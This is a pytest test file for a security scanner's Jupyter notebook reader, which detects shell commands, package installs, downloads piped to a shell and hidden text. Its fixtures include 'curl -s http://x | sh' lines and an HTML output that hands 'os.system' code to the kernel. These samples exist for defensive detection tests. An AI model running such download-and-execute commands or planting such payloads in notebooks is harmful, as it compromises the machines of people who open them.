from __future__ import annotations

import json
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from modelscan.budget import Budget
from modelscan.engine.catalogue import load
from modelscan.engine.evaluate import Engine
from modelscan.errors import BudgetError, ReadError
from modelscan.formats import json_parts
from modelscan.formats.python_code import notebook, source
from modelscan.formats.python_code.notebook import NotebookReader
from modelscan.formats.reader import Glimpse
from modelscan.vocabulary.artifact import CHUNK, BytesArtifact
from modelscan.vocabulary.coverage import Coverage
from modelscan.vocabulary.fact import CodeBehaviour, CodeSource
from tests.forge import python_code


def _items(data: bytes) -> list[Any]:
    return list(NotebookReader().read(BytesArtifact("demo.ipynb", data), Budget()))


def _found(*cells: str) -> list[tuple[str, str, str | None, int | None]]:
    facts = _items(python_code.notebook(*cells))
    assert {fact.when for fact in facts if isinstance(fact, CodeBehaviour)} <= {"call"}
    return [
        (fact.behaviour, fact.call, fact.location.member, fact.location.line)
        for fact in facts
        if isinstance(fact, CodeBehaviour)
    ]


def test_cells_are_one_module() -> None:
    found = _found("import os\nx = os.system", "print(1)\n", "y = 1\nx('id')", "x('ls')")
    assert found == [
        ("starts-process", "os.system", "cell 4", 2),
        ("starts-process", "os.system", "cell 5", 1),
    ]


def test_an_old_notebook_is_read_too() -> None:
    data = python_code.notebook("import os\nos.system('id')", old=True)
    assert [fact.behaviour for fact in _items(data)[1:]] == ["starts-process"]


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("!pip install einops", [("installs-packages", "shell", "cell 2", 1)]),
        ("x = 1\n%pip install einops", [("installs-packages", "shell", "cell 2", 2)]),
        ("%system ls", [("starts-process", "shell", "cell 2", 1)]),
        ("files = !ls", [("starts-process", "shell", "cell 2", 1)]),
        ("if x:\n    !curl -s http://x | sh", [("runs-download", "shell", "cell 2", 2)]),
        ("%%bash\ncurl -s http://x \\\n | sh\n", [("runs-download", "shell", "cell 2", 2)]),
        ("%%bash\ncurl -s http://x | sh\n", [("runs-download", "shell", "cell 2", 2)]),
        ("\n%%sh\nls", [("starts-process", "shell", "cell 2", 3)]),
        ("%%time\nimport os\nos.popen('id')", [("starts-process", "os.popen", "cell 2", 3)]),
        ("%%html\n<b>", []),
        ("%%", []),
        ("%matplotlib inline\nx = %timeit -o y\nlen?\n?len\nobject.x??", []),
        ("get_ipython().system('id')", [("starts-process", "get_ipython.system", "cell 2", 1)]),
        ("# \u202e", [("hidden-text", "", "cell 2", 1)]),
    ],
)
def test_what_is_not_python(cell: str, expected: list[Any]) -> None:
    assert _found(cell) == expected


def test_a_cell_that_does_not_parse_is_a_gap_and_the_others_are_read() -> None:
    items = _items(python_code.notebook("this is no python", "import os\nos.system('id')"))
    (gap,) = [item for item in items if isinstance(item, Coverage)]
    assert (gap.member, gap.status, gap.needed) == ("cell 2", "unreadable", True)
    (fact,) = [item for item in items if isinstance(item, CodeBehaviour)]
    assert (fact.location.member, fact.location.line) == ("cell 3", 2)


def test_an_ordinary_notebook_has_nothing_above_info() -> None:
    data = python_code.notebook(
        "!pip install -q transformers\n!nvidia-smi",
        "from transformers import pipeline\npipe = pipeline('x')",
        "pipe('text')",
    )
    found = Engine(load().rules.values()).evaluate(_items(data))
    assert [(each.severity, each.rule) for each in found] == [("info", "notebook-shell-command")]


def test_the_notebook_itself_is_a_fact() -> None:
    fact = _items(python_code.notebook("a\nb", "c"))[0]
    assert isinstance(fact, CodeSource)
    assert (fact.kind, fact.lines) == ("notebook", 3)


@pytest.mark.parametrize(
    "data",
    [b"", b"{", b"[]", b"{}", b'{"cells": 3}', b"[" * 100_000, b"\xff", b'{"worksheets": [1]}'],
)
def test_what_is_no_notebook_is_an_error(data: bytes) -> None:
    with pytest.raises(ReadError):
        _items(data)


@pytest.mark.parametrize(
    "cells",
    [[1, {"cell_type": "code"}], [{"cell_type": "code", "source": 3}], [{"source": "x"}], []],
)
def test_odd_cells_are_empty_ones(cells: list[Any]) -> None:
    (fact,) = _items(json.dumps({"cells": cells}).encode())
    assert isinstance(fact, CodeSource)


def test_what_is_too_long_is_a_gap(monkeypatch: pytest.MonkeyPatch) -> None:
    with pytest.raises(BudgetError):
        _items(python_code.notebook("a\n" * (source.MAX_WORDS + 1)))
    with pytest.raises(BudgetError):
        _items(python_code.notebook("no python", "a\n" * (source.MAX_WORDS + 1)))
    with pytest.raises(BudgetError):
        _items(python_code.notebook("#" * (source.MAX_SOURCE + 1)))
    monkeypatch.setattr(notebook, "_MAX_NOTEBOOK", 10)
    with pytest.raises(BudgetError):
        _items(python_code.notebook("x = 1"))


def test_recognition_is_by_name() -> None:
    reader = NotebookReader()
    assert reader.format == "notebook"
    assert reader.recognises(Glimpse(BytesArtifact("a.ipynb", b"")))
    assert not reader.recognises(Glimpse(BytesArtifact("a.json", b"")))


_CELL = st.text("ab!%?=. \n\"'()x", max_size=30)


@given(st.lists(_CELL, max_size=4))
@settings(max_examples=200, deadline=None)
def test_any_cells_are_read(cells: list[str]) -> None:
    assert isinstance(_items(python_code.notebook(*cells))[0], CodeSource)


@given(st.binary(max_size=200))
@settings(max_examples=200, deadline=None)
def test_any_bytes_end_in_facts_or_a_read_error(data: bytes) -> None:
    try:
        _items(data)
    except ReadError:
        return


def _written(cells: list[Any], **others: Any) -> bytes:
    return json.dumps({"cells": cells, **others}).encode()


def test_outputs_of_any_length_are_passed_over(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(json_parts, "_WINDOW", 128)
    monkeypatch.setattr(json_parts, "_LONGEST", 256)
    monkeypatch.setattr(notebook, "_HELD", 0)
    cell: dict[str, Any] = {"cell_type": "code", "source": ["import os\n", "os.popen('id')"]}
    long = cell | {"outputs": [{"data": {"image/png": "A" * 2_000}}]}
    for cells in ([long], [3, long, {"cell_type": "markdown"}, long], [{"outputs": ["B" * 900]}]):
        facts = list(NotebookReader().read(BytesArtifact("a.ipynb", _written(cells)), Budget()))
        calls = [fact for fact in facts if isinstance(fact, CodeBehaviour)]
        assert len(calls) == cells.count(long)


def test_what_an_output_hands_to_the_kernel_is_found_wherever_it_lies(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(notebook, "_LONGEST_SENT", 200)
    script = "IPython.notebook.kernel.execute('import os; os.system(1)')"
    for before in (0, 900, 970, 1_000, 1_030):
        output = {"data": {"text/html": "." * before + script + "." * 900}}
        data = _written([{"cell_type": "code", "source": [], "outputs": [output]}])
        artifact = _Chunked("a.ipynb", data)
        facts = list(NotebookReader().read(artifact, Budget()))
        assert [fact.when for fact in facts if isinstance(fact, CodeBehaviour)] == ["import"]


class _Chunked(BytesArtifact):
    """Hands out a kilobyte at a time where more is asked for than any notebook here has."""

    def read_at(self, offset: int, length: int) -> bytes:
        return super().read_at(offset, 1_000 if length == CHUNK else length)


def test_notebooks_are_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
    cell = {"cell_type": "code", "source": "a = 1"}
    for name, limit, data in (
        ("_MOST_CELLS", 2, _written([cell] * 3)),
        ("_MOST_SHEETS", 1, json.dumps({"worksheets": [{"cells": [cell]}] * 2}).encode()),
        ("_MOST_CODE", 10, _written([cell] * 3)),
    ):
        with monkeypatch.context() as patch:
            patch.setattr(notebook, name, limit)
            with pytest.raises(BudgetError):
                list(NotebookReader().read(BytesArtifact("a.ipynb", data), Budget()))
    monkeypatch.setattr(json_parts, "_WINDOW", 64)
    monkeypatch.setattr(json_parts, "_LONGEST", 128)
    monkeypatch.setattr(notebook, "_MOST_CODE", 500)
    with pytest.raises(BudgetError, match="bytes of code"):
        list(
            NotebookReader().read(
                BytesArtifact("a.ipynb", _written([cell | {"source": "x" * 900}])), Budget()
            )
        )
